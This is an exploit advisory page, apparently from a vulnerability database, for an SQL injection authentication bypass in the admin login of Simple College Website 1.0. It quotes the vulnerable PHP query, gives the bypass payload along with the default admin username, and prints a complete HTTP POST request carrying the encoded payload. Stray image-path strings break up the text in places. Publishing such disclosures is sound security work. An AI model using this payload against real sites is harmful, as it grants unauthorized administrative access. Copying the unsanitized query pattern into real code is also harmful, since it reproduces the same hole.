Simple College Website 1.0 SQL Injection

Risk: Medium
Local: No
Remote: Yes

# Exploit Title: Simple College Website 1.0 - 'name' Sql Injection (Authentication Bypass) # Exploit Author: Marco Catalano (@stunn4) # Date: 2021-01-25 # Vendor Homepage: # Software Link: # Affected Version: 1.0 # Vulnerable parameter: "name" (POST method) # Tested on: Linux, PHP/7.4.11 Explaination: The source of "/admin_pages/login.php" file defines the following lines of code: $name=$_POST['name']; $password=$_POST['password']; $result=mysqli_query($conn,"SELECT * FROM users WHERE name='$name' AND Password='$password'"); which are called when trying to log into the administrative panel at "/admin_pages/login.php" itself. Proof Of Concept: The user input is not properly sanitized and this leads to authentication bypass through the classic "<username>' or '1' = '1 -- -" where <username> has to be a valid username. For example, the default username is "florian". POST /admin_pages/login.php HTTP/1.1 Host: User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0 Accept:text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8 Accept-Language: en-US,en;q=0.5 Accept-Encoding: gzip, deflate Content-Type: application/x-www-form-urlencoded Content-Length: 66 Origin: Connection: close Referer: Cookie: wp-settings-time-1=1611158502; PHPSESSID=ujhslpm8cg18eeb1jd7nempudj Upgrade-Insecure-Requests: 1 name=florian%27+or+%271%27+%3D+%271+--+-&password=test&login=Login

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}Copyright 2021,


Back to Top